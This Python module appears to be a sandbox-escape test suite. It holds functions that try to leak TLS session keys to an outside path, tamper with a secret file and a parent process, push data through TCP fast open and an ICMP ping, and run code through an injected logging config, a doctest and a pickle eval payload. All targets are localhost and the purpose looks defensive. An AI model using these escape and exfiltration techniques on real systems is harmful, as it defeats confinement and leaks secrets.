"""Ways out by libraries of the system that open files and send by themselves."""

import os
import sys

from escaping import evil, main, outside, secret, work

seen = []


def secrets_of_tls():
    import ssl

    ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).keylog_filename = outside
    return os.path.exists(outside)


def secrets_of_tls_by_the_class_in_c():
    import _ssl
    import ssl

    _ssl._SSLContext.keylog_filename.__set__(ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT), outside)
    return os.path.exists(outside)


def secrets_of_tls_by_the_environment():
    import ssl

    os.environ["SSLKEYLOGFILE"] = outside
    ssl.create_default_context()
    return os.path.exists(outside)


def attribute_of_a_file():
    os.setxattr(secret, "user.own", b"x")
    return os.getxattr(secret, "user.own") == b"x"


def time_of_a_file():
    os.utime(secret, (1, 1))
    return int(os.stat(secret).st_mtime) == 1


def link_outside():
    os.symlink(secret, outside)
    return os.path.islink(outside)


def priority_of_the_parent():
    before = os.getpriority(os.PRIO_PROCESS, os.getppid())
    os.setpriority(os.PRIO_PROCESS, os.getppid(), before + 1)
    return os.getpriority(os.PRIO_PROCESS, os.getppid()) == before + 1


def sent_with_the_first_packet():
    import socket

    with socket.socket() as connection:
        connection.sendto(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", 0x20000000, ("127.0.0.1", evil))
        return b"HTTP" in connection.recv(4096)


def data_in_a_ping():
    import socket
    import struct

    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as connection:
        head = struct.pack("!BBHHH", 8, 0, 0, 1, 1)
        return connection.sendto(head + b"SECRET", ("127.0.0.1", 0)) > 0


def address_within_another():
    import socket

    with socket.socket(socket.AF_INET6) as connection:
        connection.settimeout(3)
        connection.connect(("::ffff:127.0.0.1", evil, 0, 0))
        return True


def settings_of_logging():
    import logging.config

    text = "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=NullHandler\nargs=(%s,)[1:]\n"
    with open(work + "/l.ini", "w") as file:
        file.write(text % "__import__('builtins').__dict__.__setitem__('made', 1)")
    logging.config.fileConfig(work + "/l.ini")
    return "made" in __import__("builtins").__dict__


def examples_of_a_text():
    import doctest

    test = doctest.DocTestParser().get_doctest(">>> made.append(1)\n", {"made": seen_by_texts}, "own", None, 0)
    doctest.DocTestRunner(verbose=False).run(test, out=lambda text: None)
    return seen_by_texts == [1]


seen_by_texts = []


def grammar_that_is_pickled():
    import pickle

    with open(work + "/grammar", "wb") as file:
        file.write(b"cbuiltins\neval\n(S'6 * 7'\ntR.")
    with open(work + "/grammar", "rb") as file:
        return pickle.Unpickler(file).load() == 42


def terminal_of_another():
    import fcntl
    import termios

    descriptor = os.open("/dev/ptmx", os.O_RDWR)
    fcntl.ioctl(descriptor, termios.TIOCSWINSZ, b"\0" * 8)
    return True


if __name__ == "__main__":
    main(sys.argv[1], globals())
